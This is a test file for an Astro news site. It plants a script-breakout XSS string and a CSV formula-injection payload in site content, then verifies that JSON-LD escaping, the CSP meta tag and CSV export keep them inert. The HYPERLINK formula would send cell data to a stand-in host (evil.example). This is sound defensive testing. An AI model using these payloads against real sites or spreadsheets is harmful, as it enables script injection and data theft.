import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'node-html-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { astroEnv, htmlFiles, root, runAstro } from '../support/site';

// Front matter, labels and notes come from authors and translators: exactly the input a
// Content-Security-Policy exists to contain. One build of content carrying script in each.
const attack = "</script><script>alert('J1')</script>";
const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
let dir = '';
let out = '';

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'striving-hostile-'));
  for (const name of ['public', 'node_modules', 'astro.config.mjs', 'tsconfig.json', 'tailwind.config.ts', 'package.json'])
    symlinkSync(join(root, name), join(dir, name));
  // Copied, not linked: Vite resolves a linked src/ to its real path and loses its client scripts.
  for (const name of ['src', 'content']) cpSync(join(root, name), join(dir, name), { recursive: true });
  const story = join(dir, 'content/stories/en/li-junqi.mdx');
  writeFileSync(story, readFileSync(story, 'utf8').replace(/^description: .*$/m, `description: "Recently${attack} more"`));
  const section = join(dir, 'content/sections/zh/union-reform.mdx');
  writeFileSync(section, readFileSync(section, 'utf8').replace(/^title: (.*)$/m, `title: "$1${attack}"`));
  const ledger = join(dir, 'content/figures.json');
  const figures = JSON.parse(readFileSync(ledger, 'utf8')) as { id: string; en: { label: string } }[];
  for (const f of figures) if (f.id === 'members-new') f.en.label = formula;
  writeFileSync(ledger, JSON.stringify(figures, null, 2));
  out = join(dir, 'dist');
  const result = await runAstro(['build'], {
    cwd: dir,
    env: astroEnv({ OUT_DIR: out, CONTENT_DIR: join(dir, 'content'), SITE_URL: 'https://news.example.com' }),
  });
  if (result.status !== 0) throw new Error(`hostile-content build failed:\n${result.output}`);
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('content that carries script', () => {
  it('never ends the JSON-LD element, so nothing after it runs', () => {
    for (const file of ['en/stories/li-junqi/index.html', 'zh/union-reform/index.html']) {
      const page = parse(readFileSync(join(out, file), 'utf8'));
      const ld = page.querySelectorAll('script[type="application/ld+json"]');
      expect(ld, file).toHaveLength(1);
      expect(ld[0]?.rawText, file).toContain('\\u003c/script>');
      // The text arrives intact, as data.
      expect(JSON.stringify(JSON.parse(ld[0]?.rawText ?? '{}')), file).toContain("</script><script>alert('J1')");
    }
  });

  it('leaves no script on any page that the page did not put there, and keeps the policy in <head>', () => {
    for (const file of htmlFiles(out, out)) {
      const page = parse(readFileSync(join(out, file), 'utf8'));
      // In an attribute (the meta description) the text is inert; as an element it would run.
      expect(
        page.querySelectorAll('script').filter((el) => el.rawText.includes("alert('J1')") && !/json/.test(el.getAttribute('type') ?? '')),
        file,
      ).toEqual([]);
      expect(page.querySelector('head meta[http-equiv="content-security-policy"]'), file).not.toBeNull();
      expect(page.querySelector('body meta[http-equiv="content-security-policy"]'), file).toBeNull();
    }
  });

  it('exports a formula-like label to CSV as text', () => {
    const csv = readFileSync(join(out, 'figures.csv'), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
